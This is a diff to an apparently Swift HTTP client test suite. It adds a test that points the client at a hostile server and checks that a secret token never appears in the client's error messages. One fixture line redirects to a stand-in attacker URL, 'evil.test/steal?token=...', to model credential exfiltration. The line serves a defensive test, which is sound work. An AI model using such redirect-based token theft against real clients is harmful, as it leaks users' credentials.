@@ -273,6 +273,31 @@ import Testing
     #expect(String(decoding: response.body, as: UTF8.self) == Self.ok)
   }
 
+  @Test(arguments: transports)
+  func noFailureRepeatsTheToken(plain: PlainHTTP) async throws {
+    // Whatever a server echoes back (in a Location, a header, a garbled head), the error text keeps none of it.
+    let token = ClientFixtures.token
+    let server = try HostileServer { request in
+      switch request.target {
+      case "/path": .redirect(status: 302, location: "http://evil.test:1/steal?token=\(token)")
+      case "/write": .redirect(status: 307, location: "/\(token)")
+      case "/head": .text("HTTP/1.1 200 OK\r\n\(token)\r\n\r\n")
+      default: .text("\(token) 200\r\n\r\n")
+      }
+    }
+    defer { server.stop() }
+    let http = Self.client(plain)
+    let failures = [
+      await Self.failure(http, Self.get(server.url("/path"))),
+      await Self.failure(http, Self.post(server.url("/write"))),
+      await Self.failure(http, Self.get(server.url("/head"))),
+      await Self.failure(http, Self.get(server.url("/line"))),
+    ]
+    #expect(failures.allSatisfy { $0 != nil })
+    #expect(!failures.contains { $0?.description.contains(token) ?? false }, "\(failures)")
+    #expect(server.requests.map(\.target) == ["/path", "/write", "/head", "/line"])
+  }
+
   // MARK: Requests the client refuses to send
 
   @Test(arguments: transports)
